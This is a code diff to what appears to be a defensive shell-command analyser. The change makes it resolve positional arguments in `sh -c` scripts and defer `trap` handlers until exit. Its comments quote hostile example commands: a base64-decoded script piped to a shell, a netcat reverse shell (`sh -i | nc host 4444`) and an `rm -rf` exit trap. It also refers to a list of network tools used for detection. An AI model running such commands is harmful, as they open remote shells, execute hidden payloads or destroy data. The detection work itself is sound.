@@ -104,7 +104,7 @@ export function execChecks(
     if (f.short.has('c')) {
       // sh -c STRING [name args...]: the first operand is the script (re-read only when it is known text).
       const script = operands[0];
-      if (script && !script.dynamic) ctx.script(script.text);
+      if (script && !script.dynamic) ctx.script(withPositional(script.text, operands.slice(1)));
       else if (script) {
         // sh -c "$(echo ... | base64 -d)": the script is decoded at run time.
         if (script.substitutions.some((n) => DECODES.test(n.text))) ctx.add('decoded-to-shell', show(cmd));
@@ -276,7 +276,11 @@ export function execChecks(
 
   const trap: Check = (cmd, _io, ctx) => {
     const action = cmd.args.find((a) => !a.text.startsWith('-'));
-    if (action && !action.dynamic) ctx.script(action.text);
+    // The handler runs later (at exit, on a signal), with the variables set by then (`trap 'rm -rf "$d"' EXIT; d=$(mktemp -d)`).
+    if (action && !action.dynamic) {
+      if (ctx.atExit) ctx.atExit(() => ctx.script(action.text));
+      else ctx.script(action.text);
+    }
   };
 
   /** tmux new-session/new-window/split-window 'CMD', screen -dm CMD...: commands run later in a terminal. */
@@ -352,6 +356,24 @@ export function execChecks(
   for (const s of SHELLS) checks[s] = shell;
   for (const n of NETWORK_TOOLS) if (n !== 'socat') checks[n] = netcat;
   return (name: string) => (Object.hasOwn(checks, name) ? checks[name] : interpreterOf(name) ? interpreter : undefined);
+}
+
+/**
+ * `sh -c SCRIPT NAME ARG...`: the script's `$1`, `"$@"`, ... are the literal arguments after NAME (find's `{}`,
+ * xargs' operands), put in so that what the script does to them can be judged.
+ */
+function withPositional(script: string, named: Word[]): string {
+  if (named.length === 0 || named.some((a) => a.dynamic)) return script;
+  const quote = (t: string): string => `'${t.replace(/'/g, `'\\''`)}'`;
+  // $0 is NAME, the first word after the script; $1... are the rest.
+  const args = named.slice(1);
+  const all = args.map((a) => quote(a.text)).join(' ');
+  return script
+    .replace(/"\$(@|\*)"|\$\{(@|\*)\}|\$(@|\*)/g, all)
+    .replace(/"\$\{?([0-9])\}?"|\$\{([0-9])\}|\$([0-9])/g, (m, a?: string, b?: string, c?: string) => {
+      const arg = named[Number(a ?? b ?? c)];
+      return arg ? quote(arg.text) : m;
+    });
 }
 
 /** A shell in a pipeline with a network tool (either side) is a reverse shell: `sh -i | nc host 4444`. */
